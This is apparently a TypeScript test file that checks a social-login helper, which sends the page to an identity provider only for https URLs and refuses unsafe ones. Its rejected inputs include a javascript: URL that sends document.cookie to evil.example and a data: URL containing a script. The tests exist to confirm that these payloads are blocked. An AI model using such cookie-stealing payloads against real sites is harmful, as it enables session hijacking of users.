/**
 * Redirect mode's navigation: the page goes to the provider's page only when it is a web
 * page, with the page to come back to in its state; a `javascript:` or `data:` URL (which would run as
 * the host page) is refused before the page moves.
 */
import { describe, expect, test } from 'vitest';
import { MESSAGES } from '../../../domain/errors.ts';
import { sendPageToProvider } from './socialLoginStarter.ts';

function page(href: string) {
  const assigned: string[] = [];
  return { assigned, location: { href, assign: (url: string) => void assigned.push(url) } };
}

describe('sendPageToProvider', () => {
  test("goes to the provider's page with the way back in its state", () => {
    const host = page('https://app.example/play?level=2');
    sendPageToProvider(host, 'https://idp.example/authorize?client_id=c&state=s1');
    expect(host.assigned).toEqual([
      `https://idp.example/authorize?client_id=c&state=s1--${encodeURIComponent(encodeURIComponent('https://app.example/play?level=2'))}`,
    ]);
  });

  test.each([
    "javascript:fetch('https://evil.example/?'+document.cookie)",
    'data:text/html,<script>alert(1)</script>',
    'http://idp.example/authorize?state=s1',
  ])('attack: the frame answers %j: refused, the page stays', (uri) => {
    const host = page('https://app.example/');
    expect(() => sendPageToProvider(host, uri)).toThrow(MESSAGES.unsafePageAddress);
    expect(host.assigned).toEqual([]);
  });
});
